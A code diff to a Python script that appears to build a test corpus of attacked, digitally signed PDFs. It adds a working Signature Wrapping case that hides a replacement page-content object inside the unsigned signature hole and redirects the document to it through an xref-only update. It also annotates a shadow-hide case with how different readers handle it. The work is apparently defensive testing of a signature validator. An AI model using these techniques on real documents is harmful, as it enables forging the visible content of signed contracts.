@@ -293,10 +293,21 @@ def rewritten_content(data, extra=RED_BOX):
     return c.objgen[0], stream_body(body)
 
 
+def der_only(blob):
+    """The DER SEQUENCE at the start of a /Contents value, without the zero padding."""
+    assert blob[0] == 0x30
+    n = blob[1]
+    if n < 0x80:
+        return blob[:2 + n]
+    k = n & 0x7F
+    return blob[:2 + k + int.from_bytes(blob[2:2 + k], "big")]
+
+
 def sig_values(data, name):
+    """(CMS without padding, /ByteRange, signature dictionary's object number)."""
     with open_pdf(data) as pdf:
         v = field(pdf, name).V
-        return bytes(v.Contents), [int(x) for x in v.ByteRange], v.objgen[0]
+        return der_only(bytes(v.Contents)), [int(x) for x in v.ByteRange], v.objgen[0]
 
 
 # --- PKI and signing ------------------------------------------------------------------
@@ -630,6 +641,39 @@ def swa(m, signed):
            reason=["signature"], made="SWA (CCS 2019), relocated second range")
 
 
+def swa_hole(m, signed):
+    """Signature Wrapping into the hole: the manager's /Contents hole (the bytes no
+    signature covers) keeps the real CMS but also carries, inside a literal string of an
+    extra key, a complete object `N 0 obj` that replaces page 1's content stream (a red box,
+    no text). An update with only an xref section and a trailer then points object N at
+    that offset: no object is appended after the signatures, and the second signed range
+    is untouched."""
+    cms, br, _ = sig_values(signed, MANAGER_FIELD)
+    a, b, c, d = br
+    with open_pdf(signed) as pdf:
+        num = content_ref(page1(pdf)).objgen[0]
+    prefix = b"<" + cms.hex().encode() + b"> /Mallory ("
+    obj = b"\n%d 0 obj\n" % num + stream_body(RED_BOX) + b"\nendobj\n"
+    hole = prefix + obj + b")"
+    assert len(hole) <= c - b, "the signature hole is too small for the smuggled object"
+    hole += b" " * (c - b - len(hole))
+    data = signed[:b] + hole + signed[c:]
+    at = b + len(prefix) + 1  # the offset of `N 0 obj`
+    u = Update(data)
+    u.objects = {}
+    out = bytearray(data)
+    xref_at = len(out)
+    out += b"xref\n%d 1\n%010d 00000 n\r\n" % (num, at)
+    out += b"trailer\n<< /Size %d /Root %d 0 R /Info %d 0 R /ID %s /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (
+        u.size, u.root, u.info, u.id, u.prev, xref_at)
+    m.save("swa-hole.pdf", bytes(out), "refused",
+           "Signature Wrapping into the /Contents hole: the manager's hole keeps the real CMS, followed inside the "
+           f"same signature dictionary by `/Mallory (...)`, a literal string holding a complete `{num} 0 obj` "
+           "(page 1's content stream replaced by a red box, the page's text gone). An update of only a classic xref "
+           f"section and trailer points object {num} at that offset. No byte a signature covers changed and no "
+           "object follows the signatures.", reason=["changed after signing"], made="SWA (CCS 2019), object in the hole")
+
+
 def shadow_hide(m, unsigned):
     pdf = open_pdf(unsigned)
     page = page1(pdf)
@@ -646,7 +690,8 @@ def shadow_hide(m, unsigned):
     m.save("shadow-hide.pdf", u.write(), "refused",
            "Shadow hide: the signed page 1 draws the attacker's text and then a white box over it; after both "
            f"signatures an update holding only an xref section marks the box (object {cover_num}) free, so the "
-           "text shows. No object is added or rewritten.", reason=["changed after signing"],
+           "text shows (qpdf, MuPDF, PDFium; poppler 24 still draws the box: readers disagree). No object is "
+           "added or rewritten.", reason=["changed after signing"],
            made="Shadow hide (NDSS 2021), xref-only update")
 
 
@@ -843,7 +888,8 @@ def main():
         os.chmod(out / "ca.pem", 0o644)
         for step in (lambda: isa(m, signed), lambda: hybrid(m, signed), lambda: dangling(m, unsigned),
                      lambda: dss(m, unsigned), lambda: third_field(m, signed), lambda: info(m, signed),
-                     lambda: usf(m, unsigned, signed), lambda: swa(m, signed), lambda: shadow_hide(m, unsigned),
+                     lambda: usf(m, unsigned, signed), lambda: swa(m, signed), lambda: swa_hole(m, signed),
+                     lambda: shadow_hide(m, unsigned),
                      lambda: shadow_replace(m, signed), lambda: shadow_hide_and_replace(m, unsigned),
                      lambda: identity_cases(m, unsigned, signed), lambda: service_cases(m, unsigned, signed)):
             step()
